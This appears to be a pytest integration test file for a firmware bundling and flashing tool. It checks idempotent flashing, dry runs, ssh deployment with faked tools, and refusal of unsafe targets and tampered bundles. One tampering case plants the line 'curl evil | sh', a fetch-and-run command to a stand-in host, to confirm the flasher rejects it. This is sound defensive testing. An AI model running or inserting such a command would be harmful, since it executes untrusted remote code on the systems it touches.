"""Bundles and flash.sh: a bundle flashed into a temporary directory is a tree from which
``python -m midshift.firmware run`` starts and forwards to a mosquitto configured from the site's
material; a second flash changes nothing; unsafe targets and tampered bundles are refused;
the ssh path is exercised with --dry-run and with fake ssh/scp/rsync on PATH (there is
no ssh server here); MicroPython boards are handed to their own tools (mpy_bundle.py,
mpy_flash.py)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from midshift.host_tools.__main__ import main as host_tools
from midshift.host_tools.ledger.opener import open_store
from midshift.host_tools.ledger.service import LedgerService, load_keys
from midshift.simulator.broker import Broker, TlsListener
from midshift.simulator.devices.scanner import BarcodeScanner
from midshift.simulator.lab import wait_for
from tests.integration.provisioned import provisioned_site

ROOT = Path(__file__).resolve().parents[2]
FLASH = ROOT / "flash.sh"


def flash(*argv: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["bash", str(FLASH), *argv], capture_output=True, text=True,
                          timeout=120, env=env)


def template(tmp: Path, broker: str, extra: str = "") -> Path:
    t = tmp / "template.toml"
    t.write_text(f"""
[journal]
path = "journal"          # relative to the site file: /etc/midshift/journal on a card
[devices.scanner1]
type = "scanner"
port = "{tmp / 'scanner1'}"
[uplinks.eth]
broker = "{broker}"
{extra}
""")
    return t


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    tmp = tmp_path_factory.mktemp("bundle")
    s = provisioned_site(tmp / "site", ["init-site", "plant1"],
                         ["gateway", "gw-01", "--board", "sim"],
                         ["gateway", "gw-02", "--board", "sim"], ["revoke", "gw-02"],
                         ["broker", "--host", "127.0.0.1"])
    tls = TlsListener(s / "ca/ca.crt", s / "broker/server.crt", s / "broker/server.key",
                      use_identity_as_username=True, crlfile=s / "ca/crl.pem")
    broker = Broker(tmp / "broker", tls=tls, acl_file=s / "broker/acl").start()
    tpl = template(tmp, broker.tls_url or "")
    bundle = tmp / "bundle"
    assert host_tools(["bundle", "gw-01", "--board", "sim", "--site-dir", str(s),
                       "--config", str(tpl), "-o", str(bundle)]) == 0
    try:
        yield {"tmp": tmp, "site": s, "broker": broker, "bundle": bundle, "template": tpl}
    finally:
        broker.close()


def tree_state(root: Path) -> dict[str, tuple[int, int]]:
    return {str(p.relative_to(root)): (p.stat().st_mtime_ns, p.stat().st_mode)
            for p in root.rglob("*") if p.is_file()}


def test_a_flashed_tree_runs_the_agent_which_forwards_to_the_broker_and_a_second_flash_changes_nothing(
        site: dict[str, Any]) -> None:
    card = site["tmp"] / "card"
    card.mkdir()
    first = flash("--bundle", str(site["bundle"]), "--target", str(card), "--site-dir",
                  str(site["site"]))
    assert first.returncode == 0, first.stderr
    keys = card / "etc/midshift/keys"
    assert keys.stat().st_mode & 0o777 == 0o700
    assert all(k.stat().st_mode & 0o777 == 0o600 for k in keys.glob("*.key"))
    before = tree_state(card)
    second = flash("--bundle", str(site["bundle"]), "--target", str(card))
    assert second.returncode == 0 and "0 file(s) changed" in second.stdout
    assert tree_state(card) == before
    audit = (site["site"] / "audit.log").read_text().splitlines()
    assert json.loads(audit[-1])["action"] == "flash"    # one line for the one real change

    opt = card / "opt/midshift"
    env = {**os.environ, "PYTHONPATH": str(opt)}
    where = subprocess.run([sys.executable, "-c", "import midshift.firmware; print(midshift.firmware.__file__)"],
                           cwd=opt, env=env, capture_output=True, text=True, timeout=60)
    assert where.stdout.strip().startswith(str(opt))     # the flashed agent, not the repo's
    store = open_store(f"sqlite:///{site['tmp'] / 'ledger.db'}")
    s = site["site"]  # the ledger with its own certificate, as the ACL wants
    ledger = LedgerService(store, load_keys(s / "ledger/keys.toml"), site["broker"].tls_url,
                           tls_files=(s / "ca/ca.crt", s / "ledger/ledger.crt",
                                      s / "ledger/ledger.key")).start()
    with BarcodeScanner("scanner1", site["tmp"] / "scanner1") as scanner:
        agent = subprocess.Popen([sys.executable, "-m", "midshift.firmware", "run", "--config",
                                  str(card / "etc/midshift/site.toml")], cwd=opt, env=env,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        try:
            assert scanner.wait_client(30), "the flashed agent never opened the scanner"
            sent = [scanner.scan() for _ in range(3)]
            assert wait_for(lambda: store.count("gw-01") >= 3, 30), site["broker"].log_tail()
        finally:
            agent.send_signal(signal.SIGTERM)
            try:
                _, err = agent.communicate(timeout=30)
            except subprocess.TimeoutExpired:
                agent.kill()
                _, err = agent.communicate(timeout=10)
            ledger.stop()
    codes = [json.loads(r[0])["code"] for r in store.query(
        "SELECT data FROM event_fields WHERE gateway='gw-01' AND source <> 'agent' "
        "ORDER BY seq")]
    store.close()
    assert codes == sent
    assert agent.returncode == 0, err[-2000:]
    assert (card / "etc/midshift/journal/journal.head").exists()


def test_dry_run_lists_what_would_change_and_writes_nothing(site: dict[str, Any]) -> None:
    card = site["tmp"] / "dry"
    card.mkdir()
    out = flash("--bundle", str(site["bundle"]), "--target", str(card), "--dry-run")
    assert out.returncode == 0
    assert "would write etc/midshift/keys/batch.key (new)" in out.stdout
    assert "nothing written" in out.stdout and not any(card.iterdir())


def _copy_bundle(site: dict[str, Any], name: str) -> Path:
    dst = site["tmp"] / name
    subprocess.run(["cp", "-a", str(site["bundle"]), str(dst)], check=True, timeout=60)
    return dst


@pytest.mark.parametrize("case, expect", [
    ("root", "is the root of this machine: refusing"),
    ("not-a-mount", "is not a mount point (--require-mount)"),
    ("missing", "no such directory"),
    ("edited", "manifest does not verify, refusing to flash"),
    ("added", "files not in the manifest: root/etc/midshift/extra.sh"),
    ("symlink", "resolves outside"),
])
def test_unsafe_targets_and_bad_bundles_are_refused_with_one_line(
        site: dict[str, Any], case: str, expect: str) -> None:
    bundle, target, extra = site["bundle"], site["tmp"] / f"t-{case}", []
    target.mkdir()
    if case == "root":
        target = Path("/")
    elif case == "not-a-mount":
        extra = ["--require-mount"]
    elif case == "missing":
        target = site["tmp"] / "nope"
    elif case == "edited":
        bundle = _copy_bundle(site, "b-edited")
        with open(bundle / "root/etc/midshift/site.toml", "a") as f:
            f.write("# harmless?\n")
    elif case == "added":
        bundle = _copy_bundle(site, "b-added")
        (bundle / "root/etc/midshift/extra.sh").write_text("curl evil | sh\n")
    elif case == "symlink":  # the card's /etc points at this machine's
        outside = site["tmp"] / "outside"
        outside.mkdir()
        (target / "etc").symlink_to(outside)
    out = flash("--bundle", str(bundle), "--target", str(target), *extra)
    assert out.returncode == 2
    assert expect in out.stderr and out.stderr.count("\n") == 1
    if case == "symlink":
        assert not any((site["tmp"] / "outside").iterdir())


def test_ssh_dry_run_prints_the_copy_and_the_systemctl_plan(site: dict[str, Any]) -> None:
    out = flash("--bundle", str(site["bundle"]), "--target", "ssh://pi@gw-01.local:2222",
                "--sudo", "--dry-run")
    assert out.returncode == 0, out.stderr
    assert "pi@gw-01.local:" in out.stdout and ("-P 2222" in out.stdout or "ssh -p 2222" in out.stdout)
    assert "systemctl enable --now midshift" in out.stdout and "daemon-reload" in out.stdout
    assert "sudo -n sh -c" in out.stdout and "sudo -n true" in out.stdout
    assert "nothing is sent now" in out.stdout


def test_ssh_as_a_user_without_sudo_is_refused_before_anything_is_sent(
        site: dict[str, Any]) -> None:
    out = flash("--bundle", str(site["bundle"]), "--target", "ssh://pi@gw-01.local")
    assert out.returncode == 2 and out.stderr.count("\n") == 1
    assert "needs root" in out.stderr and "--sudo" in out.stderr


def _fake_tools(tmp_path: Path, with_rsync: bool) -> tuple[str, Path]:
    """ssh, scp (and rsync) that record their arguments; PATH with them first."""
    fake = tmp_path / "bin"
    fake.mkdir()
    log = tmp_path / "calls"
    for tool in ["ssh", "scp"] + (["rsync"] if with_rsync else []):
        (fake / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> "{log}"\n')
        (fake / tool).chmod(0o755)
    path = f"{fake}:/usr/bin:/bin"
    if not with_rsync and subprocess.run(["sh", "-c", "command -v rsync"], env={"PATH": path},
                                         capture_output=True).returncode == 0:
        pytest.skip("a real rsync is installed: the scp fallback cannot be isolated")
    return path, log


@pytest.mark.parametrize("with_rsync", [True, False])
def test_ssh_flash_as_root_runs_the_copy_then_enables_the_service(
        site: dict[str, Any], tmp_path: Path, with_rsync: bool) -> None:
    """The plan is run as printed, in order."""
    path, log = _fake_tools(tmp_path, with_rsync)
    out = flash("--bundle", str(site["bundle"]), "--target", "ssh://root@10.0.0.7",
                env={**os.environ, "PATH": path})
    assert out.returncode == 0, out.stderr
    calls = log.read_text().splitlines()
    assert len(calls) == 2
    assert calls[0].startswith("rsync -rlp --checksum" if with_rsync else "scp -P 22 -p -r")
    assert f"{site['bundle']}/root" in calls[0] and calls[0].endswith("root@10.0.0.7:/")
    assert calls[1].startswith("ssh -p 22 root@10.0.0.7 ") and "sudo" not in calls[1]
    assert "systemctl enable --now midshift" in calls[1]
    assert "chmod 600 /etc/midshift/keys/*.key" in calls[1]
    # rsync (faked) printed no itemized change: no restart; scp cannot tell: restart.
    assert ("systemctl restart midshift" in calls[1]) is not with_rsync


@pytest.mark.parametrize("with_rsync", [True, False])
def test_ssh_flash_with_sudo_checks_sudo_then_copies_and_enables_as_root(
        site: dict[str, Any], tmp_path: Path, with_rsync: bool) -> None:
    path, log = _fake_tools(tmp_path, with_rsync)
    out = flash("--bundle", str(site["bundle"]), "--target", "ssh://pi@10.0.0.7", "--sudo",
                env={**os.environ, "PATH": path})
    assert out.returncode == 0, out.stderr
    calls = log.read_text().splitlines()
    assert calls[0] == "ssh -p 22 pi@10.0.0.7 sudo -n true"
    if with_rsync:  # rsync runs as root on the gateway
        assert len(calls) == 3 and "--rsync-path sudo -n rsync" in calls[1]
        assert calls[1].endswith("pi@10.0.0.7:/")
    else:  # scp into the user's home, then sudo cp into /
        assert len(calls) == 4 and "mkdir -m 700 midshift-flash" in calls[1]
        assert calls[2].endswith("pi@10.0.0.7:midshift-flash/")
        assert "cp -r --preserve=mode,timestamps midshift-flash/. /" in calls[3]
    assert calls[-1].startswith('ssh -p 22 pi@10.0.0.7 sudo -n sh -c "')
    assert "systemctl enable --now midshift" in calls[-1]


def test_micropython_boards_are_built_by_mpy_bundle_with_the_provisioned_keys(
        site: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """The wiring only: midshift/host_tools/mpy_bundle.py is another engineer's module, replaced
    here by a recorder so this test does not depend on mpy-cross."""
    import midshift.host_tools.mpy_bundle as mpy_bundle
    calls: list[tuple[Any, ...]] = []

    def fake(gateway: str, board: str, out_dir: Path, **kw: Any) -> Path:
        calls.append((gateway, board, out_dir, kw))
        return out_dir

    monkeypatch.setattr(mpy_bundle, "build_mpy_bundle", fake)
    s = site["site"]
    assert host_tools(["provision", "--site-dir", str(s), "gateway", "node-01",
                       "--board", "pico-w"]) == 0
    assert host_tools(["bundle", "node-01", "--board", "pico-w", "--site-dir", str(s),
                       "--config", str(site["template"]), "-o", str(tmp_path / "mpy")]) == 0
    assert "built by midshift/host_tools/mpy_bundle.py" in capsys.readouterr().out
    (gw, board, out, kw), = calls
    assert (gw, board, out) == ("node-01", "pico-w", tmp_path / "mpy")
    assert kw["hmac_key"].hex() == (s / "gateways/node-01/batch.key").read_text().strip()
    assert kw["command_key"].hex() == (s / "gateways/node-01/command.key").read_text().strip()
    monkeypatch.setitem(sys.modules, "midshift.host_tools.mpy_bundle", None)  # as if it were absent
    assert host_tools(["bundle", "node-01", "--board", "pico-w", "--site-dir", str(s),
                       "--config", str(site["template"]), "-o", str(tmp_path / "mpy2")]) == 2
    assert "midshift/host_tools/mpy_bundle.py, which is not in this build" in capsys.readouterr().err
    # flash.sh hands mpy: targets to midshift/host_tools/mpy_flash.py (another engineer's, tested
    # there with a fake mpremote), which checks the bundle first: a CPython bundle is not one.
    out = flash("--bundle", str(site["bundle"]), "--target", "mpy:/dev/ttyACM0", "--dry-run")
    assert out.returncode == 2
    assert "handing over to python -m midshift.host_tools.mpy_flash" in out.stderr
    assert "mpy_flash: " in out.stderr and "node.json" in out.stderr
    out = flash("--bundle", str(site["bundle"]), "--target", "mpy:/dev/ttyACM0", "--romfs",
                "--dry-run")
    assert out.returncode == 2 and "handing over" in out.stderr  # accepted for mpy: targets
    out = flash("--bundle", str(site["bundle"]), "--target", str(tmp_path), "--romfs")
    assert out.returncode == 2 and "--romfs applies to mpy:PORT targets only" in out.stderr


@pytest.mark.parametrize("argv, tpl_extra, expect", [
    (["gw-01", "--board", "rpi4-eth-lte"], "", "gateway gw-01 was provisioned for sim"),
    (["gw-02", "--board", "sim"], "", "gateway gw-02 is revoked"),
    (["gw-01", "--board", "sim"], "priority = 5000", "uplinks.eth.priority: 5000 is out of range"),
    (["gw-01", "--board", "sim"], "[gateway]\nid = \"gw-07\"", "gateway.id is 'gw-07' in the template"),
])
def test_bad_bundle_input_is_exit_2_with_one_line(site: dict[str, Any], tmp_path: Path,
                                                  argv: list[str], tpl_extra: str, expect: str,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    tpl = template(tmp_path, site["broker"].tls_url, tpl_extra)
    assert host_tools(["bundle", *argv, "--site-dir", str(site["site"]), "--config", str(tpl),
                       "-o", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err.strip()
    assert expect in err and "\n" not in err
    assert not (tmp_path / "out").exists()


def test_a_plain_mqtt_uplink_and_a_non_empty_output_are_refused(
        site: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plain = template(tmp_path, site["broker"].url)
    assert host_tools(["bundle", "gw-01", "--board", "sim", "--site-dir", str(site["site"]),
                       "--config", str(plain), "-o", str(tmp_path / "o1")]) == 2
    assert "is not mqtts://" in capsys.readouterr().err
    assert host_tools(["bundle", "gw-01", "--board", "sim", "--site-dir", str(site["site"]),
                       "--config", str(site["template"]), "-o", str(site["bundle"])]) == 2
    assert "is not empty: refusing to overwrite" in capsys.readouterr().err


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_owner_is_applied_and_then_nothing_changes(site: dict[str, Any]) -> None:
    card = site["tmp"] / "owned"
    card.mkdir()
    first = flash("--bundle", str(site["bundle"]), "--target", str(card), "--owner", "4321:4321")
    assert first.returncode == 0, first.stderr
    key = card / "etc/midshift/keys/batch.key"
    assert (key.stat().st_uid, key.stat().st_gid) == (4321, 4321)
    assert (card / "etc/midshift/keys").stat().st_uid == 4321
    again = flash("--bundle", str(site["bundle"]), "--target", str(card), "--owner", "4321:4321")
    assert "0 file(s) changed" in again.stdout
    other = flash("--bundle", str(site["bundle"]), "--target", str(card), "--owner", "4321:99",
                  "--dry-run")
    assert "would write etc/midshift/keys/batch.key (owner)" in other.stdout
    bad = flash("--bundle", str(site["bundle"]), "--target", str(card), "--owner", "midshift")
    assert bad.returncode == 2 and "expected numeric UID:GID" in bad.stderr
